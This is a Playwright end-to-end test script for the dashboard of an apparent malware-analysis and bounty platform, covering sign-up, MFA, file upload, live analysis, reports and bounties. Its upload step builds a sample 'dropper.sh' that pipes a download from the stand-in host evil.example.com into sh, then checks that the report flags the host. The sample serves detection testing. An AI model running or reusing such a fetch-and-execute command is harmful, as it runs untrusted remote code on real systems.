// The dashboard in a real browser against a running platform: `node e2e/run.mjs <gateway url>`.
//
// Drives Debian's Chromium (NEXUS_CHROMIUM, default /usr/bin/chromium; never a downloaded one)
// with playwright-core through what a person does: register, enrol a second factor and sign in
// through the MFA step, drop a file, watch the upload and the analysis live, read the report,
// browse the bounties, look at the home page's charts, and the same at phone width. On every page:
// axe-core (no serious or critical violations), no Content-Security-Policy violation, a
// screenshot in NEXUS_SCREENSHOTS (steps/browser.mjs, shared with the other scripts). Prints
// `step <name> ok` per step; exits 1 on the first failure
// (with a screenshot `failure.png`). tests/tests/dashboard.rs runs it against the real services.

import { createHash, randomBytes } from "node:crypto";
import { mkdirSync } from "node:fs";
import { join } from "node:path";
import { chromium } from "playwright-core";

import { check, currentStep, follow, totp, watch } from "./steps/browser.mjs";

const base = process.argv[2];
if (!base) {
  console.error("usage: node e2e/run.mjs <gateway url>");
  process.exit(2);
}
const shots = process.env.NEXUS_SCREENSHOTS ?? "dashboard-screenshots";
mkdirSync(shots, { recursive: true });
const TIMEOUT = 20_000;

/** Follows a link of the main navigation. */
const nav = (page, name) => follow(page, "Main", name);

async function liveBadge(page) {
  await page.getByTestId("live-state").filter({ hasText: "Live" }).waitFor({ timeout: TIMEOUT });
}

async function api(path, token, body) {
  const answer = await fetch(`${base}/api/v1${path}`, {
    method: body === undefined ? "GET" : "POST",
    headers: { authorization: `Bearer ${token}`, "content-type": "application/json" },
    body: body === undefined ? undefined : JSON.stringify(body),
  });
  const text = await answer.text();
  return { status: answer.status, body: text ? JSON.parse(text) : null };
}

// --- the run ------------------------------------------------------------------------------------
const browser = await chromium.launch({
  executablePath: process.env.NEXUS_CHROMIUM ?? "/usr/bin/chromium",
  headless: true,
  args: ["--no-sandbox", "--disable-dev-shm-usage"],
});
const context = await browser.newContext({ viewport: { width: 1280, height: 900 }, baseURL: base });
const page = await context.newPage();
page.setDefaultTimeout(TIMEOUT);
// Each page: axe-core, no CSP violation or page error, a screenshot, `step <name> ok`.
const settle = watch(page, shots);
const frames = [];
page.on("websocket", (socket) => socket.on("framereceived", (frame) => frames.push(String(frame.payload))));

const name = `e2e${randomBytes(4).toString("hex")}`;
const password = "correct horse battery staple 42!";

try {
  // Register: the form validates before sending, then signs in and lands on the home page.
  await page.goto("/register");
  await page.getByRole("heading", { name: "Create an account" }).waitFor();
  await page.getByRole("button", { name: "Create account" }).click();
  await page.getByText("Enter an e-mail address like name@example.com.").waitFor();
  await page.getByLabel("E-mail address").fill(`${name}@nexus.test`);
  await page.getByLabel("User name").fill(name);
  await page.getByLabel("Password", { exact: true }).fill(password);
  await page.getByLabel("Repeat the password").fill(password);
  await settle("register");
  await page.getByRole("button", { name: "Create account" }).click();
  await page.getByRole("heading", { name: "Overview" }).waitFor();
  await liveBadge(page);
  await page.getByText("No analyses yet").waitFor();
  await page.getByText("No earnings yet").waitFor();
  await settle("home_empty");

  // MFA: enrol TOTP over the API (settings pages come later), sign out, sign in again: the
  // password step answers that a code is needed and the MFA page finishes the sign-in.
  const token = await page.evaluate(() => JSON.parse(sessionStorage.getItem("nexus.session")).access_token);
  const enrolment = await api("/auth/mfa/totp", token, {});
  check(enrolment.status === 200 || enrolment.status === 201, `TOTP enrolment: ${JSON.stringify(enrolment)}`);
  let confirmed = await api("/auth/mfa/totp/confirm", token, { code: totp(enrolment.body.secret, currentStep() - 1) });
  if (confirmed.status >= 400) confirmed = await api("/auth/mfa/totp/confirm", token, { code: totp(enrolment.body.secret, currentStep()) });
  check(confirmed.status < 300, `TOTP confirmation: ${JSON.stringify(confirmed)}`);
  await page.getByRole("button", { name: "Sign out" }).click();
  await page.getByRole("heading", { name: "Sign in" }).waitFor();
  await page.getByLabel("E-mail or user name").fill(name);
  await page.getByLabel("Password").fill("wrong password entirely");
  await page.getByRole("button", { name: "Sign in" }).click();
  await page.getByRole("alert").filter({ hasText: "do not match" }).waitFor();
  await page.getByLabel("Password").fill(password);
  await page.getByRole("button", { name: "Sign in" }).click();
  await page.getByRole("heading", { name: "Two-factor sign-in" }).waitFor();
  await page.getByLabel("6-digit code").fill("12");
  await page.getByRole("button", { name: "Continue" }).click();
  await page.getByText("Enter the 6 digits your authenticator app shows.").waitFor();
  await page.getByLabel("6-digit code").fill(totp(enrolment.body.secret, currentStep() + 1));
  await settle("mfa");
  await page.getByRole("button", { name: "Continue" }).click();
  await page.getByRole("heading", { name: "Overview" }).waitFor();
  await liveBadge(page);

  // Submit: drop a file on the drop zone; upload progress, then the analysis live.
  await nav(page, "Submit a file");
  await page.getByRole("heading", { name: "Submit a file" }).waitFor();
  const sample = Buffer.from(
    `#!/bin/sh\n# dashboard e2e ${name} ${randomBytes(16).toString("hex")}\ncurl -s http://evil.example.com/payload.sh | sh\necho 203.0.113.7\n`,
  );
  const sha256 = createHash("sha256").update(sample).digest("hex");
  await page.getByTestId("dropzone").evaluate((zone, bytes) => {
    const transfer = new DataTransfer();
    transfer.items.add(new File([new Uint8Array(bytes)], "dropper.sh", { type: "text/x-shellscript" }));
    zone.dispatchEvent(new DragEvent("drop", { bubbles: true, cancelable: true, dataTransfer: transfer }));
  }, [...sample]);
  await page.getByText("dropper.sh").waitFor();
  await settle("submit");
  await page.getByRole("button", { name: "Upload and analyse" }).click();
  await page.locator(".progress").filter({ hasText: "100%" }).waitFor();
  const status = page.getByTestId("analysis-status");
  await status.waitFor();
  await page.locator('[data-testid="analysis-status"][data-status="completed"], [data-testid="analysis-status"][data-status="partial"]').waitFor();
  const analysisId = (await page.getByRole("link", { name: "Open the report" }).getAttribute("href")).split("/").pop();
  const live = frames.filter((frame) => frame.includes(`"analysis:${analysisId}"`));
  check(live.some((frame) => frame.includes('"subscribed"')), `no subscription to analysis:${analysisId}: ${live.join("\n")}`);
  const delivered = live.some((frame) => frame.includes('"type":"event"'));
  console.log(`analysis ${analysisId}: ${delivered ? "completion delivered live over the WebSocket" : "finished before the subscription; read over REST on subscribe"}`);
  await settle("live_analysis");

  // The report.
  await page.getByRole("link", { name: "Open the report" }).click();
  await page.getByRole("heading", { name: "Analysis report" }).waitFor();
  await page.getByRole("heading", { name: "Hashes" }).waitFor();
  await page.getByText(sha256, { exact: true }).waitFor();
  await page.getByRole("heading", { name: "Indicators of compromise" }).waitFor();
  await page.getByText("evil.example.com").first().waitFor();
  await settle("report");

  // Bounties: the list shows the pending bounty another member posted; a filter in the address.
  const bountyId = process.env.NEXUS_E2E_BOUNTY;
  check(bountyId, "NEXUS_E2E_BOUNTY names no bounty");
  await nav(page, "Bounties");
  await page.getByRole("heading", { name: "Bounties" }).waitFor();
  const row = page.getByTestId("bounty-list").locator(`a[href="/bounties/${bountyId}"]`);
  await row.waitFor();
  await page.getByLabel("Status").selectOption("open");
  await page.waitForURL(/status=open/);
  await page.getByText("Clear the filters").waitFor();
  await settle("bounties");

  // The bounty's page follows `bounty:{id}`: the test runner confirms the creation on the chain
  // once the subscription is confirmed, and the page must show it open without a reload.
  await page.getByLabel("Status").selectOption("");
  await row.click();
  await page.getByRole("heading", { name: "Bounty on a file" }).waitFor();
  await page.locator(".status").filter({ hasText: "pending" }).waitFor();
  const subscribed = () => frames.some((frame) => frame.includes('"subscribed"') && frame.includes(`"bounty:${bountyId}"`));
  for (let waited = 0; !subscribed(); waited += 100) {
    check(waited < TIMEOUT, `no subscription to bounty:${bountyId}`);
    await page.waitForTimeout(100);
  }
  console.log(`watching bounty ${bountyId}`);
  await page.getByRole("status").filter({ hasText: "Updated live:" }).waitFor({ timeout: 90_000 });
  await page.locator(".status").filter({ hasText: "open" }).waitFor();
  check(frames.some((frame) => frame.includes('"type":"event"') && frame.includes(`"bounty:${bountyId}"`)), "no live event for the bounty");
  await settle("bounty_live");

  // Home with data: the analyses chart and the verdict chart are drawn.
  await nav(page, "Home");
  await page.getByRole("img", { name: /Analyses submitted/ }).waitFor();
  await page.getByRole("img", { name: "Verdict distribution" }).waitFor();
  await page.getByText("Reward volume").waitFor();
  await page.getByRole("img", { name: /Reward posted per day/ }).waitFor();
  await settle("home_charts");

  // Phone width: the same page without sideways scrolling.
  await page.setViewportSize({ width: 375, height: 812 });
  await page.reload();
  await page.getByRole("heading", { name: "Overview" }).waitFor();
  await page.getByRole("img", { name: "Verdict distribution" }).waitFor();
  const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
  check(overflow <= 1, `the home page scrolls sideways by ${overflow}px at phone width`);
  await settle("phone");
  console.log("dashboard e2e: ok");
} catch (error) {
  console.log(`dashboard e2e: FAILED: ${error instanceof Error ? error.stack : error}`);
  await page.screenshot({ path: join(shots, "failure.png"), fullPage: true }).catch(() => undefined);
  process.exitCode = 1;
} finally {
  await browser.close();
}
